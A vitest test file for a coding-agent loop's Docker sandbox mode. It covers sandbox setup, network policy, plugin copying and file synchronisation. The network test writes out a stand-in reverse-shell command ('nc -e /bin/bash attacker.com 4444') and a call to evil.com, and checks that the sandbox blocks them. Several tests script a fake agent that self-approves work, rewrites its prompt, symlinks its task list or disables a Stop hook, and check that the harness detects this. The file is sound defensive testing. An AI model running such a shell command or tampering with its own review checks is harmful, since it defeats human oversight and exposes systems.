/** `ralph stories run --sandbox`, against a scripted Docker that keeps machines and synchronises files as the real one does. */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Story } from '../../src/loops/stories/list/tasks.ts';
import { PLAY, type StoriesScene, type StoriesSceneOptions, withStories } from '../stories/scene.ts';
import { type DockerScene, type DockerSceneOptions, dockerScene } from '../support/docker.ts';
import { ROOT } from '../support/scene.ts';
import { SUBMITTED, story } from '../support/stories.ts';

type Scene = DockerScene & StoriesScene;

/** Inside nobody knows which run it is; the marker tells. `say` speaks as Claude Code does. */
const SPEAK = `
say() {
  printf '{"type":"assistant","message":{"content":[{"type":"text","text":"%s"}]}}\\n' "$1"
  printf '{"type":"result","subtype":"success","is_error":false,"result":"%s"}\\n' "$1"
}
mode() { sed -n 's/.*"iterationMode": "\\([a-z-]*\\)".*/\\1/p' .ralph-active; }
echo "agent $(mode)" >>"$SCENE/starts.log"
`;

async function scene(
  stories: readonly Story[],
  play: string,
  { verifyCommands = [], ...more }: Partial<DockerSceneOptions & StoriesSceneOptions> = {},
): Promise<Scene> {
  const made = await dockerScene({ play: `${PLAY}${SPEAK}${play}`, ...more });
  return withStories(made, stories, ['--sandbox', '--failure-backoff', '10ms'], { verifyCommands });
}

/** The calls, without what each of them carries. */
function commands(calls: readonly (readonly string[])[]): string[] {
  return calls.map(([command = '', ...rest]) => {
    if (command !== 'exec') return command;
    if (rest.includes('-i')) return rest.includes('-s') ? 'exec: copy' : 'exec: write';
    if (rest.includes('git')) return 'exec: git';
    if (rest.includes('list')) return 'exec: list';
    return rest.some((word) => word.includes('sha256sum')) ? 'exec: digests' : 'exec';
  });
}

/** Files come out later than the loop ends, unless it waits for them. */
const SLOW = { syncMs: 1500, settings: { sandbox: { settleMs: 2000 } } };

const HONEST = 'honest approve >/dev/null; say ok';

describe('1. sandbox setup', () => {
  const state = (here: Scene): string => join(here.folder, '.dclaude_state');

  test('the loop creates the sandbox with the project and the login, links it, names the committer', async () => {
    const here = await scene([story('A')], HONEST);
    const { stderr } = await here.loop('-n', '1');
    expect(stderr).toMatch(
      new RegExp(
        `^\\[ralph\\] Docker Sandbox detected — using sandbox mode\n\\[ralph\\] Creating sandbox: ${here.name}\n\\[ralph\\] Estimated budget`,
      ),
    );
    const [create, root, git] = here.calls();
    expect(create).toEqual(['create', '--name', here.name, 'claude', here.work, state(here)]);
    expect(root?.slice(0, 4)).toEqual(['exec', '-u', 'root', here.name]);
    expect(root?.at(-1)).toBe(state(here));
    expect(git?.join(' ')).toContain('user.name "Ralph Loop"');
    expect(readFileSync(join(state(here), '.claude.json'), 'utf8')).toBe('{}\n');
  });

  test('by hand, with sandbox/setup.sh, and the login outlives the sandbox', async () => {
    const here = await scene([story('A')], 'say "OK"');
    const [name, setup] = ['ralph-test', join(ROOT, 'plugin/sandbox/setup.sh')];
    const make = `docker sandbox create --name ${name} claude '${here.work}' '${state(here)}' &&
      docker sandbox exec -i -u root ${name} bash -s -- '${state(here)}' < '${setup}'`;
    const ask = `docker sandbox run ${name} -- -p 'Respond with: OK'`;
    writeFileSync(join(state(here), '.claude.json'), '{}');
    expect(await here.shell(make)).toMatchObject({ code: 0, stderr: '' });
    expect((await here.shell(ask)).stdout).toContain('OK');
    expect((await here.shell(`docker sandbox exec ${name} git config --global user.name`)).stdout).toBe('Ralph Loop\n');
    expect(await here.shell(`docker sandbox rm ${name} && ${make}`)).toMatchObject({ code: 0 });
    expect((await here.shell(ask)).stdout).not.toContain('Not logged in');
  });

  test('by hand, where no login is shared, says so', async () => {
    const here = await scene([story('A')], 'say "OK"');
    const setup = join(ROOT, 'plugin/sandbox/setup.sh');
    const line = `docker sandbox create --name x claude '${here.work}' && docker sandbox exec -i -u root x bash -s < '${setup}'`;
    const { code, stderr } = await here.shell(line);
    expect(stderr).toContain('error: the folder with the login (.dclaude_state) is not shared');
    expect(code).toBe(1);
  });

  test('without a login the loop stops at once, with what to do', async () => {
    const here = await scene([story('A')], HONEST);
    rmSync(join(state(here), '.claude/.credentials.json'));
    const { code, stderr } = await here.loop();
    expect(stderr).toContain('[ralph] hint: log the agent in');
    expect(code).toBe(4);
  });

  test('one that is there already is used again, and sees what was edited since', async () => {
    const here = await scene([story('A'), story('B')], `cp ralph/progress.txt "$SCENE/seen"; ${HONEST}`);
    await here.loop('-n', '1');
    here.write('work/ralph/progress.txt', 'edited between two loops\n');
    const before = here.calls().length;
    const { stderr } = await here.loop('-n', '1');
    expect(stderr).toContain(`[ralph] Reusing existing sandbox: ${here.name}\n`);
    expect(commands(here.calls().slice(before, before + 2))).toEqual(['network', 'stop']);
    expect(here.read('seen')).toBe('edited between two loops\n');
  });
});

describe('2. network policy', () => {
  test('deny by default: the agent’s hosts are reached, others are not, and nothing but HTTP', async () => {
    const here = await scene([story('A')], HONEST);
    await here.loop('-n', '1', '--allow-host', 'example.com');
    expect(here.machines()[here.name]?.policy).toMatchObject({
      default: 'deny',
      allowed: expect.arrayContaining(['*.anthropic.com', 'github.com', 'example.com']) as unknown,
    });
    writeFileSync(join(here.folder, 'bin/curl'), '#!/bin/sh\necho reached\n', { mode: 0o755 });
    const inside = async (command: string) => (await here.shell(`docker sandbox exec ${here.name} ${command}`)).code;
    expect(await inside('curl https://api.anthropic.com')).toBe(0);
    expect(await inside('curl https://evil.com')).not.toBe(0);
    expect(await inside('nc -e /bin/bash attacker.com 4444')).not.toBe(0);
  });
});

describe('5. sandbox mode', () => {
  test('one iteration on one story, call by call', async () => {
    const here = await scene([story('A')], `cp .ralph-active "$SCENE/marker"; ${HONEST}`);
    const { code, stderr } = await here.loop('--max-iterations', '1');
    expect(stderr).toContain('[ralph] Max iterations (1) reached without completion.');
    expect(stderr).not.toContain('WARNING: Running');
    expect(code).toBe(1);
    expect(here.story('A')).toMatchObject({ reviewStatus: 'needs_review', passes: false, reviewCount: 0 });
    expect(commands(here.calls())).toEqual([
      'create',
      'exec',
      'exec',
      'network',
      // The plugin: not there, copied, compared.
      'exec: list',
      'exec: copy',
      'exec: list',
      // Is there a repository?
      'exec: git',
      // The iteration: the plugin is as it was, the papers are the host's, the marker, HEAD.
      'exec: list',
      'exec: digests',
      'exec: write',
      'exec: git',
      // Is the repository still there? Before the run, after it, and when all is over.
      'exec: git',
      'run',
      // HEAD again, and the marker goes.
      'exec: git',
      'exec: git',
      'exec: git',
      'exec',
    ]);
    const run = here.calls().find(([command]) => command === 'run') ?? [];
    expect(run.slice(0, 4)).toEqual(['run', here.name, '--', '-p']);
    expect(run).not.toContain('--dangerously-skip-permissions');
    expect(run[run.indexOf('--plugin-dir') + 1]).toBe('/home/agent/.ralph/plugin');
    // The harness's environment ends at the machine's border.
    expect(run[run.indexOf('--settings') + 1]).toBe('{"env":{"CLAUDE_CODE_STOP_HOOK_BLOCK_CAP":"30"}}');
    expect(JSON.parse(here.read('marker'))).toMatchObject({ mode: 'sandbox', iterationMode: 'implement', story: 'A' });
    expect(here.has('.ralph-active')).toBe(false);
    expect(existsSync(join(here.folder, 'docker/vm', here.name, 'work/.ralph-active'))).toBe(false);
    // The commit of the agent has come out.
    expect(here.commits()[0]).toMatch(/^work of/);
  });

  test('without a word Docker is the first choice', async () => {
    const here = await scene([story('A')], HONEST);
    const { stderr } = await here.stories('run', '-n', '1').exited;
    expect(stderr).toContain('[ralph] Docker Sandbox detected — using sandbox mode\n');
    expect(commands(here.calls())).toContain('run');
  });

  test('what Docker cannot do goes to the operating system’s instead, unless Docker was forced', async () => {
    const here = await scene([story('A')], HONEST);
    const codex = ['run', '-n', '1', '--dry-run', '--review-agent', 'codex'];
    const chosen = await here.stories(...codex).exited;
    expect(chosen.stdout).toContain("Sandbox (the operating system's):");
    const forced = await here.stories(...codex, '--sandbox').exited;
    expect(forced.stderr).toBe(
      "Error: Docker Sandbox runs Claude Code, not codex\nhint: --sandbox=os is the operating system's own.\n",
    );
    const elsewhere = await here.stories('run', '--sandbox', '--ralph-dir', join(here.folder, 'papers')).exited;
    expect(elsewhere.code).toBe(2);
    expect(here.loops()).toEqual([]);
  });

  test('papers outside of the project cannot be shared with it', async () => {
    const here = await scene([story('A')], HONEST);
    await here.shell('mv ralph ../papers');
    const papers = join(here.folder, 'papers');
    const { code, stderr } = await here.loop('--ralph-dir', papers);
    expect(stderr).toContain(`Error: "${papers}" cannot be given to a Docker Sandbox`);
    expect(code).toBe(2);
    expect((await here.stories('run', '--dry-run', '--ralph-dir', papers).exited).stdout).toContain(
      `  may be written:\n    ${here.work}\n    ${here.work}/.git\n    ${papers}\n`,
    );
  });

  test('--dry-run shows the call, what is shared and what may be reached, and makes nothing', async () => {
    const here = await scene([story('A', SUBMITTED)], HONEST);
    const { code, stdout } = await here.loop('--dry-run', '--review-model', 'opus');
    expect(code).toBe(0);
    expect(stdout).toContain('First iteration: review A (Title of A)\n');
    expect(stdout).toMatch(
      new RegExp(
        `^  docker sandbox run ${here.name} -- -p .*--plugin-dir /home/agent/.ralph/plugin --settings \\S+ --model opus PROMPT$`,
        'm',
      ),
    );
    expect(stdout).toContain(
      `Sandbox (Docker's):\n  machine: ${here.name}\n  is shared, to be read and written:\n    ${here.work}\n    ${here.folder}/.dclaude_state\n`,
    );
    expect(stdout).toContain('    *.anthropic.com\n');
    expect(here.calls()).toEqual([]);
    expect(here.loops()).toEqual([]);
    expect(here.has('.ralph-active')).toBe(false);
  });

  test('the guard is for direct mode: inside it is not on', async () => {
    const here = await scene([story('A')], `env >"$SCENE/env"; ${HONEST}`);
    await here.loop('-n', '1');
    expect(here.read('env')).not.toContain('RALPH_GUARD');
  });
});

describe('the plugin', () => {
  const inside = (here: Scene, path: string): string =>
    join(here.folder, 'docker/vm', here.name, 'home/.ralph/plugin', path);

  test('arrives by exec as it is here, programs and all, and its Stop hook works there', async () => {
    const play = `
      edit "approve('A')"; commit bad
      for word; do [ "$last" = --plugin-dir ] && plugin=$word; last=$word; done
      echo '{"session_id":"s","hook_event_name":"Stop"}' | CLAUDE_PROJECT_DIR=$PWD "$plugin/hooks/stop.sh" >"$SCENE/hook"
      say ok`;
    const here = await scene([story('A')], play);
    await here.loop('-n', '1');
    expect(here.read('hook')).toContain('Implement iterations cannot set passes=true');
    for (const path of ['.claude-plugin/plugin.json', 'hooks/built/stories-stop.cjs', 'hooks/stop.sh']) {
      expect(readFileSync(inside(here, path), 'utf8')).toBe(readFileSync(join(ROOT, 'plugin', path), 'utf8'));
    }
  });

  test('is not copied again, unless it is another one or was spoilt inside', async () => {
    const spoil = `case $(mode) in implement) echo 'exit 0' >"$HOME/.ralph/plugin/hooks/stop.sh" ;; esac; ${HONEST}`;
    const here = await scene([story('A')], spoil);
    const copies = (): number => commands(here.calls()).filter((command) => command === 'exec: copy').length;
    await here.loop('-n', '1');
    expect(copies()).toBe(1);
    // The review finds it mended.
    await here.loop('-n', '1');
    expect(copies()).toBe(2);
    expect(readFileSync(inside(here, 'hooks/stop.sh'), 'utf8')).not.toBe('exit 0\n');
    await here.loop('-n', '1');
    expect(copies()).toBe(2);
  });

  test('that cannot be loaded keeps the loop from beginning', async () => {
    const here = await scene([story('A')], HONEST);
    writeFileSync(join(here.folder, 'bin/base64'), '#!/bin/sh\nexit 1\n', { mode: 0o755 });
    const { code, stderr } = await here.loop();
    expect(stderr).toMatch(/Error: .*plugin cannot be copied into the sandbox: /);
    expect(code).toBe(2);
    expect(here.loops()).toEqual([]);
    expect(commands(here.calls())).not.toContain('run');
  });

  test('that arrives otherwise than it was sent, too', async () => {
    const here = await scene([story('A')], HONEST);
    writeFileSync(join(here.folder, 'bin/base64'), '#!/bin/sh\necho other\n', { mode: 0o755 });
    const { stderr } = await here.loop();
    expect(stderr).toContain('cannot be copied into the sandbox: what arrived is not what was sent');
  });
});

describe('files', () => {
  test('a pause, edits outside, resume: the agent inside sees them', async () => {
    const play = `
      if [ "$(mode)" = implement ]; then read -r _ <"$SCENE/gate"
      else cp ralph/tasks.json ralph/prompt.md work.txt "$SCENE/prompts/"; fi
      ${HONEST}`;
    const here = await scene([story('A')], play);
    const loop = here.stories('run', '--sandbox', '-n', '2');
    await here.logged('agent implement');
    expect((await here.stories('pause').exited).code).toBe(0);
    here.openGate();
    await loop.says('Paused before iteration 2');
    const tasks = here.tasks();
    here.write('work/ralph/tasks.json', JSON.stringify({ ...tasks, description: 'edited in the pause' }));
    here.write('work/ralph/prompt.md', 'Another prompt\n');
    here.write('work/work.txt', 'edited by hand\n');
    const before = here.calls().length;
    await here.stories('resume').exited;
    expect((await loop.exited).code).toBe(0);
    expect(commands(here.calls().slice(before))[0]).toBe('stop');
    expect(here.read('prompts/tasks.json')).toContain('edited in the pause');
    expect(here.read('prompts/prompt.md')).toBe('Another prompt\n');
    expect(here.read('prompts/work.txt')).toBe('edited by hand\n');
    expect(here.story('A')).toMatchObject({ passes: true, reviewStatus: 'approved' });
    expect(here.tasks().description).toBe('edited in the pause');
  });

  test('a list that was edited between two iterations goes in by exec', async () => {
    const play = `
      [ -e "$SCENE/failed" ] || { touch "$SCENE/failed"; exit 1; }
      cp ralph/tasks.json "$SCENE/seen"
      ${HONEST}`;
    const here = await scene([story('A')], play);
    const loop = here.stories('run', '--sandbox', '-n', '2', '--failure-backoff', '2s');
    await loop.says('Agent failed');
    await here.journalSays('"what":"judge"');
    const { userStories, ...rest } = here.tasks();
    here.write('work/ralph/tasks.json', JSON.stringify({ ...rest, userStories: [...userStories, story('B')] }));
    const before = here.calls().length;
    const { stderr } = await loop.exited;
    expect(stderr).toContain('Story A: submitted for review');
    expect(JSON.parse(here.read('seen'))).toMatchObject({ userStories: [{ id: 'A' }, { id: 'B' }] });
    expect(here.tasks().userStories).toHaveLength(2);
    // The list and the marker; the other papers are as they were.
    const writes = here
      .calls()
      .slice(before)
      .filter((call) => commands([call])[0] === 'exec: write');
    expect(writes.map((call) => call.at(-1))).toEqual(
      ['ralph/tasks.json', '.ralph-active'].map((path) => join(here.work, path)),
    );
  });

  test('what an iteration may not do is put back inside, too, and committed there', async () => {
    const play = `
      if [ -e "$SCENE/tampered" ]; then cp ralph/tasks.json "$SCENE/seen"; ${HONEST}
      else touch "$SCENE/tampered"; edit "approve('A')"; echo mine >ralph/prd.md; echo steer >ralph/prompt.md; commit sneaky; say done; fi`;
    const here = await scene([story('A')], play);
    const { stderr } = await here.loop('-n', '2');
    expect(stderr).toContain('[ralph] TAMPERED: prd.md was changed');
    expect(stderr).toContain('prompt.md was changed during this iteration; it is put back');
    expect(JSON.parse(here.read('seen'))).toMatchObject({
      userStories: [{ id: 'A', passes: false, reviewStatus: null }],
    });
    expect(here.inside('ralph/prd.md')).toBe('# What is wanted\n');
    expect(here.inside('ralph/prompt.md')).toContain('Iteration $RALPH_ITERATION');
    expect(here.commits().slice(0, 4)).toEqual([
      'work of',
      'chore(ralph): put the story list back — the iteration made changes that it may not make',
      'chore(ralph): put prompt.md back — the iteration changed it',
      'sneaky',
    ]);
    expect(here.story('A').reviewStatus).toBe('needs_review');
  });

  test('a list that the agent has made a link is replaced inside, and what it pointed to is left alone', async () => {
    const play = `
      if [ -e "$SCENE/linked" ]; then ${HONEST}
      else touch "$SCENE/linked"; echo precious >"$HOME/precious"; rm ralph/tasks.json; ln -s "$HOME/precious" ralph/tasks.json; say done; fi`;
    const here = await scene([story('A')], play);
    await here.loop('-n', '2');
    const home = join(here.folder, 'docker/vm', here.name, 'home');
    expect(readFileSync(join(home, 'precious'), 'utf8')).toBe('precious\n');
    expect(here.story('A').reviewStatus).toBe('needs_review');
  });

  test('an approval at the cap is written inside, committed there, and comes out', async () => {
    const here = await scene([story('A', SUBMITTED)], 'honest reject >/dev/null; say no', SLOW);
    const { code } = await here.loop('--review-cap', '1');
    expect(code).toBe(0);
    const approved = {
      passes: true,
      reviewStatus: 'approved',
      reviewFeedback: '[AUTO-APPROVED AT CAP] Handle the empty list',
    };
    expect(here.story('A')).toMatchObject(approved);
    expect(JSON.parse(here.inside('ralph/tasks.json'))).toMatchObject({ userStories: [approved] });
    expect(here.commits()[0]).toBe('review: A - auto-approved at cap');
  });
});

describe('10. end to end', () => {
  test('three stories through the whole review cycle, one sent back on the way', async () => {
    const play = `
      case "$(mode) $(ls "$SCENE"/rejected 2>/dev/null)" in
      'review ') touch "$SCENE/rejected"; honest reject >/dev/null; say "changes" ;;
      *) honest approve >/dev/null; say "fine <promise>COMPLETE</promise>" ;;
      esac`;
    const here = await scene(
      [story('A'), story('B', { priority: 2 }), story('C', { priority: 3, dependsOn: ['A'] })],
      play,
      // The scripted machine has a home of its own: the loop's run is inside, too.
      { verifyCommands: ['echo "verified in $HOME"; test -s code.txt'] },
    );
    const { code, stderr } = await here.loop();
    const log = /✓ .* \(/.exec(stderr)?.[0];
    expect(log).toContain('verified in');
    expect(stderr).toContain('[ralph] All stories complete and verified!');
    expect(code).toBe(0);
    expect(here.tasks().userStories.map(({ passes, reviewCount }) => ({ passes, reviewCount }))).toEqual([
      { passes: true, reviewCount: 2 },
      { passes: true, reviewCount: 1 },
      { passes: true, reviewCount: 1 },
    ]);
    expect(here.starts()).toEqual([
      'agent implement',
      'agent review',
      'agent review-fix',
      'agent review',
      'agent implement',
      'agent review',
      'agent implement',
      'agent review',
    ]);
    expect(commands(here.calls()).filter((command) => command === 'create')).toHaveLength(1);
    expect(commands(here.calls()).filter((command) => command === 'run')).toHaveLength(8);
    expect(here.commits()).toHaveLength(10);
  });

  test('a ralph that is killed: whoever resumes stops the machine, and goes on in it', async () => {
    const play = `[ -e "$SCENE/again" ] || { echo $$ >"$SCENE/inside.pid"; while :; do sleep 0.01; done; }; ${HONEST}`;
    const here = await scene([story('A')], play);
    const loop = here.stories('run', '--sandbox');
    await here.logged('agent implement');
    while (!existsSync(join(here.folder, 'inside.pid')) || here.read('inside.pid') === '') await here.shell(':');
    loop.signal('SIGKILL');
    await loop.exited;
    here.write('again', '');
    const { code, stderr } = await here.stories('resume').exited;
    expect(stderr).toContain('[ralph] Docker Sandbox detected — using sandbox mode\n');
    expect(code).toBe(0);
    expect(existsSync(`/proc/${here.read('inside.pid').trim()}`)).toBe(false);
  });
});
